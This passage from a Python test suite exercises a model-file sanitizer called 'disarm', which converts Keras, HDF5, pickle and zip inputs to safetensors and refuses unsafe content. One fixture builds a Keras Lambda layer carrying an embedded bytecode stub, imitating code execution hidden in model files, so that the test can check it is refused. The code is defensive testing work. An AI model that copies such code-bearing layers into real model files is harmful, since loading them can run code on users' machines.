            check('a zip: the content', z.read('b.txt') == b'text\n' * 50)
    try:
        import h5py
    except ImportError:
        print('skipped: h5py (python3-h5py) is not installed')
        return
    if np is None:
        return
    w = np.random.default_rng(1).normal(size=(6, 5)).astype('f4')
    with h5py.File(folder / 'w.h5', 'w') as f:
        f.create_dataset('layers/dense/vars/0', data=w)
        f.create_dataset('layers/dense/vars/1', data=w[0])
    code, report = disarm(folder / 'w.h5', folder / 'w.safetensors', '--keras-weights')
    if check('--keras-weights: written', code == 0, report.get('reason')):
        got = {n.strip('/').replace('/', '.'): v for n, v in tensors(folder / 'w.safetensors').items()}
        check('--keras-weights: bit-equal', sorted(v[2] for v in got.values()) == sorted([w.tobytes(), w[0].tobytes()]), list(got))
    layer = {'module': 'keras.layers', 'class_name': 'Lambda', 'config': {'name': 'l', 'function': {
        'class_name': '__lambda__', 'config': {'code': '4wEAAAAAAAAA', 'defaults': None, 'closure': None}}}}
    model = {'module': 'keras', 'class_name': 'Sequential', 'config': {'name': 's', 'layers': [layer]}}
    with zipfile.ZipFile(folder / 'm.keras', 'w') as z:
        z.writestr('metadata.json', json.dumps({'keras_version': '3.3.3', 'date_saved': '2026-01-01@00:00:00'}))
        z.writestr('config.json', json.dumps(model))
        z.write(folder / 'w.h5', 'model.weights.h5')
    code, report = disarm(folder / 'm.keras', folder / 'o.keras')
    check('a Lambda layer is refused, and named', code == 1 and 'not CLEAN' in report['reason'] and 'ambda' in report['reason'], report['reason'])
    code, report = disarm(folder / 'm.keras', folder / 'k.safetensors', '--keras-weights')
    check('… its weights can be had', code == 0 and len(tensors(folder / 'k.safetensors')) == 2, report.get('reason'))
    chunked(folder, h5py)


def chunked(folder, h5py):
    """Datasets in chunks of every kind of index, compressed or not, partly or never written; what cannot be had is refused."""
    rng, filters = np.random.default_rng(2), [{}, {'compression': 'gzip'}, {'compression': 'lzf'},
                                               {'compression': 'gzip', 'shuffle': True, 'fletcher32': True}]
    for version in ('earliest', 'latest'):
        source, want = folder / f'{version}.h5', {}
        with h5py.File(source, 'w', libver=version) as f:
            for i, (shape, chunks) in enumerate((((100,), (7,)), ((33, 17), (8, 5)), ((64, 64), (16, 16)), ((5, 6, 7), (2, 3, 4)),
                                                 ((40, 3), (40, 3)), ((1, 1), (1, 1)), ((9, 10), (4, 10)))):
                for k, most in enumerate((None, (None,) + shape[1:], shape[:-1] + (None,), (None,) * len(shape), tuple(2 * n + 1 for n in shape))):
                    name, kind = f'g{k}/d{i}', ('<f4', '>f8', '<i2', 'u1', '<f2')[(i + k) % 5]
                    data = (rng.standard_normal(shape) * 50).astype(kind)
                    f.create_dataset(name, data=data, chunks=chunks, maxshape=most, **filters[(i + k) % 4])
                    want[name] = data
            sparse = f.create_dataset('sparse', (50, 50), chunks=(10, 10), dtype='<f4')
            sparse[12:15, 20:33] = 3.5
            f.create_dataset('never', (5, 3), dtype='<f4')
            f.create_dataset('never-in-chunks', (5, 3), dtype='<f4', chunks=(2, 2))
            shrunk = f.create_dataset('shrunk', data=rng.standard_normal((20, 20)).astype('<f4'), chunks=(6, 6), maxshape=(20, 20))
            shrunk.resize((9, 20))
            f.create_dataset('nothing', (0, 3), dtype='<f4', maxshape=(None, 3))
            for name in ('sparse', 'never', 'never-in-chunks', 'shrunk', 'nothing'):
                want[name] = f[name][...]
            f.create_dataset('words', data=np.array([b'a', b'b'] * 20), chunks=(4,))
        code, report = disarm(source, folder / f'{version}.safetensors', '--keras-weights')
        if not check(f'chunks, {version}: written', code == 0, report.get('reason')):
            continue
        got = tensors(folder / f'{version}.safetensors')
        check(f'chunks, {version}: all of them and nothing else', set(got) == set(want), set(got) ^ set(want))
        for name, data in want.items():
            little = data.astype(data.dtype.newbyteorder('<'))
            check(f'chunks, {version}: {name}', name in got and got[name][1:] == (list(data.shape), little.tobytes()), name)
        check(f'chunks, {version}: text is dropped and listed', '/words' in dropped(report), report['files'][0]['counts'])
    for name, options in (('whole', {}), ('pieces', {'chunks': (32, 20)}), ('packed', {'chunks': (32, 20), 'compression': 'gzip'})):
        with h5py.File(folder / f'{name}.h5', 'w') as f:
            f.create_dataset('layers/dense/vars/0', data=np.arange(200 * 96, dtype='f4').reshape(200, 96) / 7, **options)
    for other in ('pieces', 'packed'):
        r = run('diff', '--format', 'json', folder / 'whole.h5', folder / f'{other}.h5')
        check(f'diff: the same numbers in {other}', r.returncode == 0 and json.loads(r.stdout)['verdict'] == 'identical', r.stdout[:300])
    for name, options, why in (('filled', {'shape': (50, 50), 'chunks': (10, 10), 'fillvalue': 2.5}, 'never written'),
                               ('unwritten', {'shape': (50, 50), 'fillvalue': 2.5}, 'never written'),
                               ('outside', {'shape': (50,), 'external': [('other.bin', 0, 200)]}, 'other')):
        with h5py.File(folder / f'{name}.h5', 'w') as f:
            f.create_dataset('kept', data=np.ones(3, 'f4'))
            d = f.create_dataset('d', dtype='<f4', **options)
            if name == 'filled':
                d[0:3, 0:3] = 1
        code, report = disarm(folder / f'{name}.h5', folder / f'{name}.safetensors', '--keras-weights')
        check(f'{name}: refused, and said why', code == 1 and why in report['reason'], report.get('reason'))


def numbers_that_are_none(new):
    """What the scanner would not call CLEAN is not written, and the finding is named."""
    folder = new()
    for value, name in ((float('nan'), 'nan'), (float('inf'), 'inf')):
        header = json.dumps({'w': {'dtype': 'F32', 'shape': [64], 'data_offsets': [0, 256]}}).encode()
        header += b' ' * (-len(header) % 8)
        (folder / f'{name}.safetensors').write_bytes(struct.pack('<Q', len(header)) + header + struct.pack('<f', value) * 64)
        code, report = disarm(folder / f'{name}.safetensors', folder / f'o-{name}.safetensors')
        if name == 'inf': # masks are made of them
            check('infinities are kept', code == 0, report.get('reason'))
            continue
        check(f'{name}: refused', code == 1 and report['result'] == 'refused', report.get('reason'))
        check(f'{name}: the finding and the tensor are named', 'not CLEAN: REVIEW: GH-' in report['reason'] and "w" in report['reason'], report.get('reason'))


def what_force_may_replace(new):
    folder = new()
    (folder / 'w.safetensors').write_bytes(common.safetensors())
    (folder / 'in').mkdir()
    (folder / 'in' / 'w.safetensors').write_bytes(common.safetensors())
    (folder / 'mine').mkdir()
    (folder / 'mine' / 'thesis.txt').write_text('years of work\n')
    for source in ('w.safetensors', 'in'):
        r = run('disarm', folder / source, '-o', folder / 'mine', '--force')
        check(f'{source} over a directory with other files: refused', r.returncode == (64 if source != 'in' else 1), r.stderr)
        check('… which is as it was', (folder / 'mine' / 'thesis.txt').read_text() == 'years of work\n' and len(os.listdir(folder / 'mine')) == 1)
        check('… and the reason says what to do', b'directory' in r.stderr if source != 'in' else b"'thesis.txt'" in r.stderr, r.stderr)
    os.mkfifo(folder / 'pipe')
    r = run('disarm', folder / 'w.safetensors', '-o', folder / 'pipe', '--force')
    check('a pipe is not replaced', r.returncode == 64 and (folder / 'pipe').is_fifo(), r.stderr)
    (folder / 'empty').mkdir()
    check('an empty directory is', disarm(folder / 'in', folder / 'empty', '--force')[0] == 0 and os.listdir(folder / 'empty') == ['w.safetensors'])
    check('and so is an earlier result', disarm(folder / 'in', folder / 'empty', '--force')[0] == 0)
    check('a file by a directory', disarm(folder / 'in', folder / 'w.safetensors', '--force')[0] == 0)
    r = run('disarm', folder / 'in', '-o', folder / 'none' / 'x')
    check('the folder that is missing is named', r.returncode == 2 and b"none'" in r.stderr, r.stderr)


def names_and_sizes(new):
    folder = new()
    (folder / 'in').mkdir()
    (folder / 'in' / 'w.safetensors').write_bytes(common.safetensors())
    odd = os.fsencode(folder / 'in') + b'/\xff\xfe.txt'
    with open(odd, 'w') as f:
        f.write('a\n')
    code, report = disarm(folder / 'in', folder / 'out')
    check('a name that is no text', code == 0 and os.path.exists(os.fsencode(folder / 'out') + b'/\xff\xfe.txt'), report.get('reason'))
    (folder / 'short.txt').write_text('words of no use\n')
    with zipfile.ZipFile(folder / 'm.zip', 'w') as z:
        for name, text in (('a/x.py', 'import os\n'), ('a/run.SH', 'ls\n'), ('a/shell', '#!/bin/sh\nset -e\nls -l /tmp\n'), ('a/kept.txt', 'words\n')):
            z.writestr(name, text)
    code, report = disarm(folder / 'm.zip', folder / 'o.zip')
    if check('code in an archive: written without it', code == 0, report.get('reason')):
        check('… by name or by content, however short', zipfile.ZipFile(folder / 'o.zip').namelist() == ['a/kept.txt'], zipfile.ZipFile(folder / 'o.zip').namelist())
        check('… and listed', set(dropped(report)) == {'a/x.py', 'a/run.SH', 'a/shell'}, dropped(report))
    with zipfile.ZipFile(folder / 'many.zip', 'w') as z:
        for i in range(66000):
            z.writestr(f'{i:05}', 'words\n')
    code, report = disarm(folder / 'many.zip', folder / 'many-out.zip')
    if check('an archive of more members than 16 bits count: written', code == 0, report.get('reason')):
        with zipfile.ZipFile(folder / 'many-out.zip') as z:
            check('… and read by others', len(z.namelist()) == 66000 and z.read('65999') == b'words\n')
    (folder / 'cut.zip').write_bytes((folder / 'm.zip').read_bytes()[:200])
    (folder / 'cut.pt').write_bytes((folder / 'm.zip').read_bytes()[:200])
    (folder / 'empty.pt').write_bytes(b'')
    for name, out, args, why in (('cut.zip', 'c.zip', (), 'cut off'), ('cut.pt', 'c.safetensors', (), 'cut off'), ('empty.pt', 'e.safetensors', (), 'empty'),
                                 ('in/w.safetensors', 'w.gguf', (), 'end it in .safetensors'), ('in/w.safetensors', 's.safetensors', ('--only', 'model'), '--only'),
                                 ('in/w.safetensors', 'l.safetensors', ('--limit-expanded', '10'), '--limit-expanded'),
                                 ('short.txt', 'k.txt', ('--limit-expanded', '5'), '--limit-expanded')):
        code, report = disarm(folder / name, folder / out, *args)
        check(f'{name} {args}: not written', code == (2 if '--limit' in why else 1), report.get('reason'))
        check(f'{name} {args}: the reason', why in report['reason'], report.get('reason'))
    (folder / 'in' / 'model.bin').write_bytes(b'')
    code, report = disarm(folder / 'in', folder / 'hollow')
    check('empty weights in a directory', code == 1 and 'model.bin' in report['reason'] and 'empty' in report['reason'], report.get('reason'))
    if np is None:
        return
    (folder / 'd.pkl').write_bytes(pickle.dumps({'weights': np.ones((3, 3), 'f4'), 'more': np.zeros(2, 'f4')}))
    code, report = disarm(folder / 'd.pkl', folder / 'd.safetensors', '--only', 'weigths')
    check('--only a key that is not there: the others are named', code == 1 and 'weights, more' in report['reason'], report.get('reason'))
    half = np.random.default_rng(5).normal(size=(256, 256)).astype('f2').astype('f4')
    np.save(folder / 'half.npy', half)
    for bits in (1, 4, 6, 13, 16):
        code, report = disarm(folder / 'half.npy', folder / f'half{bits}.safetensors', '--randomise-low-bits', str(bits), '--seed', '1')
        if check(f'{bits} low bits of numbers that came from F16: written', code == 0, report.get('reason')):
            same = tensors(folder / f'half{bits}.safetensors')['tensor'][2] == half.tobytes()
            check(f'{bits} low bits: left where they are all zero', same == (bits <= 13), same)


def models(new):
    """The trained models that come with the project's inputs."""
    home = pathlib.Path(__file__).resolve().parents[3] / 'shared' / 'models'
    if not home.is_dir():
        print('skipped: ../shared/models is not there')
        return
    folder = new()
    for name in ('gatehouse-demo-llm.gguf', 'gatehouse-demo-llm-q8_0.gguf', 'gatehouse-demo-llm'):
        code, report = disarm(home / name, folder / name)
        check(f'{name}: written', code == 0, report.get('reason'))
    if (folder / 'gatehouse-demo-llm.gguf').exists():
        was, now = (home / 'gatehouse-demo-llm.gguf').read_bytes(), (folder / 'gatehouse-demo-llm.gguf').read_bytes()
        check('the weights are bit-equal', was[-1 << 20:] == now[-1 << 20:])
        check('free text is gone', b'general.description' in was and b'general.description' not in now)


TESTS = [models, what_force_may_replace, names_and_sizes, described, containers, directories, oldest, numbers_that_are_none, pytorch, what_is_dropped, zips_written_otherwise, numpy, usage, metadata, bits, interrupted]
if __name__ == '__main__':
    with tempfile.TemporaryDirectory(dir=os.environ.get('TMPDIR')) as root:
        count = 0

        def new():
            global count
            count += 1
            folder = pathlib.Path(root) / str(count)
            folder.mkdir()
            return folder
        wanted = sys.argv[2:]
        for test in TESTS:
            if not wanted or test.__name__ in wanted:
                test(new)
        sys.exit(common.end('test_disarm.py'))
